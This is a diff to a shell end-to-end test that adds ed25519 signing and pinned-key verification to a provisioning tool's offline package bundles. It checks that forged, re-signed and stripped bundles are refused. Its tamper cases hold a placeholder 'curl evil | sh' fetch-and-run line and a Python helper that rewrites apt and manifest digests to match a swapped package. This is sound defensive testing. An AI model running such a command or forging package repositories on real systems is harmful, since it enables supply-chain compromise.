@@ -6,16 +6,21 @@
 # the same run and in the next one), a server that ignores Range is
 # handled, a corrupt or wrongly sized file is refused and never packed,
 # the archive's manifest matches its contents, apt reads the bundled
-# repository, and --verify catches a tampered archive.
+# repository, and --verify catches a tampered archive.  Bundles are signed
+# (--sign, ed25519): --verify wants the key pinned (--key, the plan's
+# offline.bundle_key) and refuses a package forged into a signed bundle
+# with every digest rewritten, a signature swapped for another key's and
+# one stripped; an unsigned bundle passes only with --insecure-unsigned.
 #
 #   sh tests/e2e/t051-bundle.sh
 #
-# Needs apt-get, dpkg-deb, dpkg-scanpackages (dpkg-dev), python3, zstd.
+# Needs apt-get, dpkg-deb, dpkg-scanpackages (dpkg-dev), python3, zstd,
+# openssl.
 
 . "$(dirname "$0")/lib.sh"
 set -u
 
-for t in apt-get apt-cache dpkg-deb dpkg-scanpackages python3 zstd sha256sum; do
+for t in apt-get apt-cache dpkg-deb dpkg-scanpackages python3 zstd sha256sum openssl; do
 	command -v "$t" >/dev/null 2>&1 || skip_all "$t is not installed"
 done
 
@@ -29,6 +34,13 @@ trap cleanup EXIT
 trap 'exit 130' INT TERM
 out=$W/out
 err=$W/err
+
+# The signing key (private: 0600), its public half, and a forger's key.
+(umask 077 && openssl genpkey -algorithm ed25519 -out "$W/bundle.key" &&
+	openssl genpkey -algorithm ed25519 -out "$W/evil.key") 2>/dev/null || exit 1
+openssl pkey -in "$W/bundle.key" -pubout -out "$W/bundle.pub" 2>/dev/null || exit 1
+FP=SHA256:$(openssl pkey -pubin -in "$W/bundle.pub" -outform DER | tail -c 32 |
+	openssl dgst -sha256 -binary | base64 | tr -d '=')
 
 # ------------------------------------------------------------ the repository
 
@@ -74,10 +86,14 @@ software:
 EOF
 P=$W/plan.yaml
 
-bundle() {	# bundle OUT [options]: a bundle of $P from the test server
+bundle() {	# bundle OUT [options]: a signed bundle of $P from the test server
 	o=$1
 	shift
-	"$PROVISION" bundle "$P" -o "$o" --cache "$W/cache" --source "$SRC" "$@"
+	"$PROVISION" bundle "$P" -o "$o" --cache "$W/cache" --source "$SRC" \
+	    --sign "$W/bundle.key" "$@"
+}
+verify() {	# verify BUNDLE [options]: --verify against the signing key
+	"$PROVISION" bundle --verify "$@" --key "$W/bundle.pub"
 }
 
 # ------------------------------------------------------------ manifest only
@@ -116,7 +132,9 @@ most_at_once() {
 	sed -n 's/^inflight //p' "$W/http.log" | sort -n | tail -n 1
 }
 check "  ... in parallel: 4 at once with --jobs 4" test "$(most_at_once)" -eq 4
-check "--verify accepts it" run "$PROVISION" bundle --verify "$W/b1.tar.zst"
+check "  ... signed: it says by which key" grep -q "^$W/b1.tar.zst: signed by key $FP\$" "$out"
+check "--verify accepts it, signed by the key --key gives" run verify "$W/b1.tar.zst"
+check "  ... and says so" grep -q ": ok, signed by key $FP (the pinned key)\$" "$out"
 mkdir -p "$W/x1"
 zstd -dc "$W/b1.tar.zst" | tar -xf - -C "$W/x1"
 contents_match() {	# every member is in the manifest with its digest, and back
@@ -129,9 +147,10 @@ found = set()
 for d, _, files in os.walk(root):
     for f in files:
         rel = os.path.relpath(os.path.join(d, f), root)
-        if rel != "manifest.json":
+        if rel not in ("manifest.json", "manifest.sig", "manifest.pub"):
             found.add(rel)
 assert found == set(listed), (found ^ set(listed))
+assert os.path.getsize(os.path.join(root, "manifest.sig")) == 64
 for rel, e in listed.items():
     data = open(os.path.join(root, rel), "rb").read()
     assert len(data) == e["size"] and hashlib.sha256(data).hexdigest() == e["sha256"], rel
@@ -140,6 +159,8 @@ EOF
 }
 check "  ... the manifest lists every member with its size and SHA-256" contents_match
 check "  ... the same files the repository served" cmp "$W/x1/repo/$SLURMD" "$REPO/$SLURMD"
+check "  ... its signature checks with openssl alone (docs/bundle.md)" sh -c \
+	"openssl pkeyutl -verify -pubin -inkey '$W/bundle.pub' -rawin -in '$W/x1/manifest.json' -sigfile '$W/x1/manifest.sig' >/dev/null"
 check "  ... rendered step scripts, one per node and step" sh -c \
 	"test -f '$W/x1/scripts/head-01/base.sh' -a -f '$W/x1/scripts/n2/base.sh' || test ! -f '$TOP/templates/base.sh'"
 
@@ -182,7 +203,7 @@ check "a download cut mid-file is resumed in the same run" run bundle "$W/b3.tar
 check "  ... it said so" grep -q "^resuming slurmd" "$out"
 check "  ... with a Range request from where it broke" \
 	grep -q "^GET /$SLURMD bytes=400000- 206\$" "$W/http.log"
-check "  ... and the bundle verifies" run "$PROVISION" bundle --verify "$W/b3.tar.zst"
+check "  ... and the bundle verifies" run verify "$W/b3.tar.zst"
 
 rm -rf "$W/cache"
 start_httpd --cut "$SLURMD:700000:1"
@@ -200,7 +221,7 @@ rm -rf "$W/cache"
 start_httpd --cut "$SLURMD:500000:1" --no-range
 check "a server that ignores Range: the file is fetched whole again" run bundle "$W/b5.tar.zst"
 check "  ... from byte 0" sh -c "test \$(grep -c '^GET /$SLURMD - 200\$' '$W/http.log') -eq 2"
-check "  ... and the bundle verifies" run "$PROVISION" bundle --verify "$W/b5.tar.zst"
+check "  ... and the bundle verifies" run verify "$W/b5.tar.zst"
 
 # ------------------------------------------------------------ bad files
 
@@ -243,6 +264,37 @@ check "  ... which is packed" sh -c "zstd -dc '$W/b13.tar.zst' | tar -tf - | gre
 
 # ------------------------------------------------------------ --verify
 
+# forge: the package swapped for another, every digest that names it
+# (repo/Packages, repo/Release, manifest.json) rewritten to match: what
+# --verify accepted before bundles were signed.
+forge() {	# forge: in the current folder
+	python3 - "$SLURMD" "$REPO/unrelated_1.0_amd64.deb" <<'EOF'
+import hashlib, json, re, sys
+victim, evil = sys.argv[1:]
+sha = lambda b: hashlib.sha256(b).hexdigest()
+data = open(evil, "rb").read()
+open("repo/" + victim, "wb").write(data)
+pk = open("repo/Packages").read().split("\n\n")
+for i, st in enumerate(pk):
+    if "Filename: ./" + victim in st:
+        st = re.sub(r"(?m)^SHA256: .*$", "SHA256: " + sha(data), st)
+        pk[i] = re.sub(r"(?m)^Size: .*$", "Size: %d" % len(data), st)
+pk = "\n\n".join(pk).encode()
+open("repo/Packages", "wb").write(pk)
+rel = re.sub(r"(?m)^ [0-9a-f]{64} [0-9]+ Packages$", " %s %d Packages" % (sha(pk), len(pk)),
+    open("repo/Release").read()).encode()
+open("repo/Release", "wb").write(rel)
+m = json.load(open("manifest.json"))
+for a in m["artifacts"]:
+    if a["path"] == "repo/" + victim:
+        a["sha256"], a["size"] = sha(data), len(data)
+for f in m["files"]:
+    b = {"repo/Packages": pk, "repo/Release": rel}.get(f["path"])
+    if b is not None:
+        f["sha256"], f["size"] = sha(b), len(b)
+open("manifest.json", "w").write(json.dumps(m, indent=2) + "\n")
+EOF
+}
 tamper() {	# tamper NAME: rebuild b1 with one change
 	rm -rf "$W/t" && mkdir -p "$W/t" && zstd -dc "$W/b1.tar.zst" | tar -xf - -C "$W/t" && (
 		cd "$W/t" || exit 1
@@ -250,22 +302,65 @@ tamper() {	# tamper NAME: rebuild b1 with one change
 		flip) printf 'X' | dd of="repo/$SLURMD" bs=1 seek=5000 conv=notrunc 2>/dev/null ;;
 		extra) echo 'curl evil | sh' >scripts-evil.sh ;;
 		missing) rm "repo/munge_0.5.15-2_amd64.deb" ;;
+		forge) forge ;;
+		resign) forge && openssl pkeyutl -sign -inkey "$W/evil.key" -rawin \
+			-in manifest.json -out manifest.sig &&
+			openssl pkey -in "$W/evil.key" -pubout -out manifest.pub ;;
+		strip) forge && rm manifest.sig manifest.pub ;;
 		esac
 		tar -cf - ./* | zstd -q -o "$W/t.tar.zst" -f
 	)
 }
 tamper flip
-expect_code 1 "--verify finds a changed byte" run "$PROVISION" bundle --verify "$W/t.tar.zst"
+expect_code 1 "--verify finds a changed byte" run verify "$W/t.tar.zst"
 check "  ... in that member" grep -q "bad: 'repo/$SLURMD' has SHA-256" "$out"
 tamper extra
-expect_code 1 "--verify finds a member the manifest does not list" run "$PROVISION" bundle --verify "$W/t.tar.zst"
+expect_code 1 "--verify finds a member the manifest does not list" run verify "$W/t.tar.zst"
 check "  ... by name" grep -q "bad: 'scripts-evil.sh' is in the archive but not in the manifest" "$out"
 tamper missing
-expect_code 1 "--verify finds a member that is gone" run "$PROVISION" bundle --verify "$W/t.tar.zst"
+expect_code 1 "--verify finds a member that is gone" run verify "$W/t.tar.zst"
 check "  ... by name" grep -q "bad: 'repo/munge_0.5.15-2_amd64.deb' is in the manifest but not in the archive" "$out"
-expect_code 1 "--verify of a file that is no archive" run "$PROVISION" bundle --verify "$P"
-expect_code 2 "--verify takes no plan" run "$PROVISION" bundle "$P" --verify "$W/b1.tar.zst"
+expect_code 1 "--verify of a file that is no archive" run verify "$P"
+expect_code 2 "--verify with -o is a usage error" run "$PROVISION" bundle "$P" --verify "$W/b1.tar.zst" -o "$W/x"
 expect_code 2 "-o is required" run "$PROVISION" bundle "$P" --source "$SRC"
+
+# ------------------------------------------------------------ signatures
+
+tamper forge
+expect_code 1 "a package forged into a signed bundle, every digest rewritten, is refused" \
+	run verify "$W/t.tar.zst"
+check "  ... the signature does not match" grep -qx "bad: the signature of key $FP does not match manifest.json: the bundle was changed after it was signed" "$out"
+check "  ... and nothing else is wrong with it" test "$(grep -c '^bad: ' "$out")" -eq 1
+tamper resign
+expect_code 1 "  ... re-signed by another key: refused" run verify "$W/t.tar.zst"
+check "  ... naming both keys" grep -q "^bad: signed by key SHA256:[A-Za-z0-9+/]*, not by the key the plan pins, $FP\$" "$out"
+tamper strip
+expect_code 1 "  ... its signature stripped: refused" run verify "$W/t.tar.zst"
+check "  ... as not signed" grep -q "^bad: the bundle is not signed, and the plan pins key $FP" "$out"
+expect_code 1 "  ... not even with --insecure-unsigned when a key is pinned" run verify "$W/t.tar.zst" --insecure-unsigned
+
+sed "s|^software:|offline: { bundle_key: $W/bundle.pub }\nsoftware:|" "$P" >"$W/pinned.yaml"
+check "--verify takes the key the plan pins" run "$PROVISION" bundle --verify "$W/b1.tar.zst" "$W/pinned.yaml"
+check "  ... and says so" grep -q ": ok, signed by key $FP (the pinned key)\$" "$out"
+expect_code 1 "--verify with no key to check against refuses a signed bundle" run "$PROVISION" bundle --verify "$W/b1.tar.zst"
+check "  ... and says what to do" grep -q "^bad: signed by key $FP, but no key is pinned to check it against (pin it in the plan" "$out"
+check "  ... --insecure-unsigned takes it, saying so" run "$PROVISION" bundle --verify "$W/b1.tar.zst" --insecure-unsigned
+check "  ... in those words" grep -q ": ok, signed by key $FP, which no pinned key vouches for: accepted because --insecure-unsigned\$" "$out"
+
+"$PROVISION" bundle "$P" -o "$W/u.tar.zst" --cache "$W/cache" --source "$SRC" >"$out" 2>"$err"
+check "an unsigned bundle is made, with a warning" grep -q "warning: $W/u.tar.zst is not signed: apply --bundle refuses it" "$err"
+expect_code 1 "  ... --verify refuses it" run "$PROVISION" bundle --verify "$W/u.tar.zst"
+check "  ... saying how to sign, pin or accept it" grep -q "^bad: the bundle is not signed: .*--sign KEY.*bundle_key.*--insecure-unsigned)\$" "$out"
+check "  ... --insecure-unsigned accepts it" run "$PROVISION" bundle --verify "$W/u.tar.zst" --insecure-unsigned
+check "  ... in those words" grep -q ": ok, accepted unsigned because --insecure-unsigned\$" "$out"
+
+chmod 644 "$W/bundle.key"
+expect_code 2 "--sign refuses a private key others can read" run bundle "$W/x.tar.zst"
+check "  ... like ssh, saying how to fix it" grep -q "can be read by other users (mode 0644): a signing key must be private (chmod 600 " "$err"
+chmod 600 "$W/bundle.key"
+expect_code 2 "--sign refuses a key the plan does not pin" run "$PROVISION" bundle "$W/pinned.yaml" \
+	-o "$W/x.tar.zst" --cache "$W/cache" --source "$SRC" --sign "$W/evil.key"
+check "  ... before fetching anything" test ! -e "$W/x.tar.zst"
 
 # ------------------------------------------------------------ usage
 
